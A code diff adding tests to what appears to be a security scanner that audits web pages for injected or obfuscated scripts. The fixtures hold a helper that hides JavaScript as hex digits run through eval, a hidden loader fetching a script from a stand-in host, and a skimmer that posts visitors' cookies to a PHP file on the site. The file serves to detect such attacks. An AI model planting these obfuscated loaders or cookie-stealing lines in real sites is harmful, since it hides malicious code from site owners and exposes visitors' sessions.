@@ -565,6 +565,39 @@ def _table_loader(url: str, *extra: str) -> str:
     return "<script>" + obfuscated(words, _TABLE_LOADER) + "</script>"
 
 
+def _imperva_shaped(code: str) -> str:
+    """`code` as Imperva's inline script carries its own: hex digits, two a character,
+    turned into char codes and run by `eval` (INCAPSULA)."""
+    return ("<script type=\"text/javascript\">(function() { var z=\"\";var b=\""
+            + code.encode().hex() + "\";for (var i=0;i<b.length;i+=2){z=z+parseInt("
+            "b.substring(i, i+2), 16)+\",\";}z = z.substring(0,z.length-1); eval(eval('"
+            "String.fromCharCode('+z+')'));})();</script>")
+
+
+def test_hex_digits_turned_into_code_are_read(audit_html: AuditHtml) -> None:
+    """Imperva's hex string, turned into char codes at run time and handed to `eval`,
+    was not decoded: a loader written so was found nowhere (no request, no finding). The
+    loader's request is found now, as one read from decoded code; Imperva's own code,
+    which asks its site's `/_Incapsula_Resource`, is still no finding (VENDORS)."""
+    html = page(foot=_imperva_shaped(
+        "var s=document.createElement('script');s.src='https://cdn.fresh-metrics.test/j.js';"
+        "document.head.appendChild(s);"))
+    report = audit_html(html, url=URL)
+    assert ("https://cdn.fresh-metrics.test/j.js", "inline-decoded") in {
+        (r.url, r.via) for r in report.resources}
+    own = audit_html(page(INCAPSULA), url=URL)
+    assert not [r for r in own.resources if r.third_party]
+    assert not decode_script("var k='719d34d31c8e3a6e6fffd425f7e032f3';parseInt(k.substr(0,"
+                             " 2), 16);").payloads  # a key spells nothing
+    # the same shape asking Imperva's path and posting the visitor's cookies to another
+    # path of the site (a skimmer's drop on a hacked site) is not Imperva's own
+    skimmer = page(foot=_imperva_shaped(
+        "var x=new XMLHttpRequest;x.open('GET','/_Incapsula_Resource?SWHANEDL=1',false);"
+        "x.send(null);document.createElement('img').src='/wp-content/uploads/2024/01/i.php?c='"
+        "+encodeURIComponent(document.cookie);"))
+    assert _obfuscated(audit_html(skimmer, url=URL))
+
+
 _JQUERY = '<script src="https://code.jquery.com/jquery-3.7.1.min.js"></script>'
 _JSDELIVR = ('<script src="https://cdn.jsdelivr.net/npm/bootstrap@5.3.3/dist/js/bootstrap.bundle'
              '.min.js"></script>')
@@ -590,6 +623,9 @@ INJECTED: list[tuple[str, str]] = [
         "<script>var s=document.createElement('script');s.src=String.fromCharCode("
         + ",".join(str(ord(c)) for c in "https://stay.linestoget.test/x.js")
         + ");document.head.appendChild(s);</script>"))),
+    ("a loader written as hex digits in Imperva's shape", page(foot=_imperva_shaped(
+        "var s=document.createElement('script');s.src='https://cdn.fresh-metrics.test/j.js';"
+        "document.head.appendChild(s);"))),
 ]
 
 
